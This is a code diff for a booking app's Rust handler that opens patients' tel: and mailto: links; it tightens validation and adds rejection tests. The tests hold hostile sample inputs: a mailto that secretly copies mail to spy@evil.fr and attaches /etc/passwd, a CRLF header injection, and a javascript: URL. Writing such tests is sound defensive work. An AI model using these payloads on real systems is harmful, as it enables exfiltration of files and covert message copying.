@@ -6,18 +6,13 @@ use crate::ports::FileChoice;
 use crate::{App, AppError};
 use rdv_core::Text;
 
-/// The longest contact link handed to the system.
-const MAX_LINK: usize = 512;
-
 impl App {
-    /// Opens a patient's `tel:` or `mailto:` link with the system (softphone, mail client). Any
-    /// other scheme, a control character or an overlong link is refused: the web view must never
-    /// open arbitrary URLs.
+    /// Opens a patient's `tel:` or `mailto:` link with the system (softphone, mail client): only a
+    /// link of the shape the booking's links are built with ([`rdv_core::contact`]) — any other
+    /// scheme, a query or header (`?`, `&`), a control character or an overlong link is refused:
+    /// the web view must never open arbitrary URLs.
     pub fn open_contact_link(&self, url: &str) -> Result<(), AppError> {
-        let allowed = (url.starts_with("tel:") || url.starts_with("mailto:"))
-            && !url.chars().any(char::is_control)
-            && url.len() <= MAX_LINK;
-        if !allowed {
+        if !rdv_core::contact::is_contact_link(url) {
             return Err(AppError::invalid(
                 "Seuls les liens tel: et mailto: peuvent être ouverts.",
                 "Only tel: and mailto: links can be opened.",
@@ -104,6 +99,9 @@ mod tests {
             "https://example.org",
             "javascript:alert(1)",
             "tel:+33\n1",
+            "mailto:x?bcc=spy@evil.fr&attach=/etc/passwd",
+            "mailto:a@b.fr\r\nBcc: spy@evil.fr",
+            "tel:+33612345678;phone-context=x",
             &format!("tel:{}", "1".repeat(600)),
         ] {
             let err = app
